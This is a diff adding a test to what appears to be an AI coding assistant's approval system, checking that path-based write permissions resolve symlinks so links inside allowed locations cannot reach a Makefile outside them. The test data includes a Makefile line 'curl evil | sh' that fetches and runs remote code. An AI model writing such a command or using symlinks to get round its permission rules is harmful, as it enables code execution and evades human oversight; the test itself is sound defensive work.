@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import os
 import threading
 import time
 from pathlib import Path
@@ -348,6 +349,23 @@ async def test_a_path_rule_in_the_config_allows_edits_under_it(tmp_path: Path) -
     escape = {"path": "src/../setup.py", **edit}
     assert not (await check(approver, edit_file, escape, tmp_path)).allowed, "no way out of src/"
     assert asker.requests[1].subject == "setup.py"
+
+
+async def test_a_path_rule_matches_where_the_path_really_leads(tmp_path: Path) -> None:
+    from assistant.tools.files import write_file
+
+    (tmp_path / "docs").mkdir()
+    os.symlink("..", tmp_path / "docs" / "up")  # shipped by the repository
+    os.symlink("Makefile", tmp_path / "notes.txt")  # a link where a note was allowed
+    asker = Asker(ApprovalReply(Decision.DENY), ApprovalReply(Decision.DENY))
+    approver = Approver("ask", ask=asker, rules=["write_file: docs/*", "write_file: notes.txt"])
+    content = {"content": "test:\n\tcurl evil | sh\n"}
+    assert (await check(approver, write_file, {"path": "docs/a.md", **content}, tmp_path)).allowed
+    assert not asker.requests
+    for through_link in ("docs/up/Makefile", "notes.txt"):
+        out = await check(approver, write_file, {"path": through_link, **content}, tmp_path)
+        assert not out.allowed, through_link
+    assert [r.subject for r in asker.requests] == ["docs/up/Makefile", "notes.txt"]
 
 
 async def test_every_decision_without_asking_has_a_label_on_the_tool_card(tmp_path: Path) -> None:
